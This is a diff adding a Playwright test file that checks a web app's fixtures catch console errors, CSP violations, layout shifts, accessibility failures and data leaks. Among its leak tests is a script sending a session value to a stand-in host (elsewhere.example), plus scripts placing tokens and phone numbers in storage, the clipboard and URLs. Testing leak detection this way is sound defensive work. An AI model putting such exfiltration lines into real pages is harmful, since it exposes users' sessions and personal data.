@@ -1,0 +1,148 @@
+import { axe, expect, settle, test } from './fixtures.ts';
+import { wrongAnswers } from './support/answers.ts';
+import { openMadeUp } from './support/made-up.ts';
+import { complaints } from './support/problems.ts';
+import { changeAmount, repaymentOf } from './support/repayment.ts';
+
+// the fixtures themselves: what they are supposed to notice, they notice. On a page that is no screen, so that screens may
+// change.
+
+test.describe('problems', () => {
+  for (const [expectation, script] of [
+    ['console: bad thing', 'console.error("bad thing")'],
+    ['page error: Error: thrown', 'throw new Error("thrown")'],
+    ['page error: Error: rejected', 'Promise.reject(new Error("rejected"))'],
+    ['dialog: alert: hello', 'alert("hello")'],
+    [/^foreign request: http:\/\/elsewhere\.example\//, 'new Image().src = "http://elsewhere.example/x.png"'],
+  ] as const) {
+    test(String(expectation), async ({ openScreen, problems }) => {
+      problems.expect(expectation);
+      if (script.includes('elsewhere')) problems.expect(/^console: Failed to load resource/);
+      await openMadeUp(openScreen, `<script>${script}</script>`);
+      await expect.poll(() => problems.complaints()).toEqual([]);
+    });
+  }
+
+  test('an answer that the contract does not allow', async ({ openScreen, sandbox }) => {
+    changeAmount(sandbox, 'full', {} as number);
+    await openScreen(repaymentOf('full'));
+    await expect.poll(() => wrongAnswers.splice(0)).toEqual([expect.stringContaining('/repayAmount')]);
+  });
+
+  test('a violation of the content security policy', async ({ openScreen, problems }) => {
+    problems.expect(/^csp: style-src-attr blocked inline/, /^console: Applying inline style violates/);
+    await openMadeUp(
+      openScreen,
+      '<meta http-equiv="Content-Security-Policy" content="style-src \'none\'"><p style="color: red">x</p>',
+    );
+  });
+
+  test('a shift of the layout', async ({ openScreen, problems }) => {
+    problems.expect(/^layout shift: 0\.\d+ at \d+ ms: <p class="moved">/);
+    const page = await openMadeUp(
+      openScreen,
+      '<div style="padding: 20px"><p class="moved" style="height: 300px">x</p></div>',
+    );
+    await settle(page);
+    await page.evaluate(() => {
+      window.document.querySelector('.moved')?.insertAdjacentHTML('beforebegin', '<h1>late</h1>');
+    });
+  });
+
+  test('but not a shift that a tap has caused', async ({ openScreen }) => {
+    const page = await openMadeUp(
+      openScreen,
+      '<button onclick="document.body.insertAdjacentHTML(`afterbegin`, `<h1>y</h1>`)">x</button>',
+    );
+    await settle(page);
+    await page.getByRole('button').tap();
+    await expect(page.getByRole('heading')).toBeVisible();
+  });
+
+  test('what nobody expected, and what did not happen', () => {
+    const problem = 'console: bad';
+    expect(complaints([problem], [])).toEqual(['console: bad']);
+    expect(complaints([problem], ['bad'])).toEqual([]);
+    expect(complaints([problem], [/^console/, /worse/])).toEqual(['expected, but did not happen: /worse/']);
+  });
+
+  for (const opened of ['openScreen', 'page'] as const) {
+    test(`a problem that was not announced fails the test: ${opened}`, async ({ openScreen, page, problems }) => {
+      test.fail();
+      const one = opened === 'page' ? page : await openScreen('/__sandbox/log');
+      await one.goto('/__sandbox/log');
+      await one.evaluate(() => {
+        console.error('bad thing');
+      });
+      await expect.poll(() => problems.seen).toHaveLength(1);
+    });
+  }
+});
+
+test.describe('what leaves the browser', () => {
+  const SEND =
+    'await fetch("/gateway/v3/x?sessionId=secret-1", { method: "POST", body: new URLSearchParams({ phone: "09171234567" }) });';
+  for (const [leak, script] of [
+    ['leak: local storage has a session: a=secret-1', 'localStorage.setItem("a", "secret-1")'],
+    ['leak: tab storage has a session: a={"s":"secret-1"}', 'sessionStorage.setItem("a", `{"s":"secret-1"}`)'],
+    ['leak: local storage has a phone or account number: a=09171234567', 'localStorage.setItem("a", "09171234567")'],
+    ['leak: console has a session: opened by secret-1', 'console.log("opened by", "secret-1")'],
+    ['leak: clipboard has a session: secret-1', 'await navigator.clipboard.writeText("secret-1")'],
+    [
+      /leak: own address has a phone or account number: .*\?to=09171234567/,
+      'await fetch("/gateway/v3/y?to=09171234567")',
+    ],
+    [
+      /leak: referrer has a session: .*secret-1/,
+      'history.replaceState(null, "", "?sessionId=secret-1"); await fetch("/gateway/v3/y")',
+    ],
+    [
+      /leak: foreign request has a session: http:..elsewhere.example.\?s=secret-1/,
+      'new Image().src = "http://elsewhere.example/?s=secret-1"',
+    ],
+  ] as const) {
+    test(String(leak), async ({ openScreen, problems }) => {
+      problems.expect(leak, 'Failed to load resource');
+      problems.allow(/^foreign request: http:\/\/elsewhere\.example/);
+      await openMadeUp(
+        openScreen,
+        `<meta name="referrer" content="unsafe-url"><script type="module">${SEND}${script}</script>`,
+      );
+      await expect.poll(() => problems.complaints()).toEqual([]);
+    });
+  }
+
+  test('but the session to the lender, and what was typed in its tab', async ({ openScreen, problems }) => {
+    problems.expect('Failed to load resource');
+    const page = await openMadeUp(openScreen, '<p>x</p>');
+    await page.evaluate(async () => {
+      await fetch('/gateway/v3/x?sessionId=secret-1', {
+        method: 'POST',
+        body: new URLSearchParams({ phone: '09171234567' }),
+      });
+      sessionStorage.setItem('a', '09171234567');
+      localStorage.setItem('a', 'secret-12 my-secret-1st');
+    });
+  });
+});
+
+test.describe('axe', () => {
+  const sound = '<main><h1>x</h1><button type="button" style="font-size: 24px">Pay</button></main>';
+
+  test('lets a sound page pass', async ({ openScreen }) => {
+    await axe(await openMadeUp(openScreen, sound));
+  });
+
+  test('names rule, element and reason', async ({ openScreen }) => {
+    const page = await openMadeUp(openScreen, `${sound}<img src="data:," id="picture">`);
+    await expect(axe(page)).rejects.toThrow(/image-alt: [\s\S]*#picture[\s\S]*alt attribute/);
+    await axe(page, { exclude: ['#picture'] });
+  });
+});
+
+test('each worker has a sandbox of its own, empty before each test', async ({ openScreen, sandbox, origin }) => {
+  expect(sandbox.control.log).toEqual([]);
+  const page = await openMadeUp(openScreen, '');
+  await settle(page);
+  expect(origin).toMatch(/^http:\/\/localhost:\d+$/);
+});
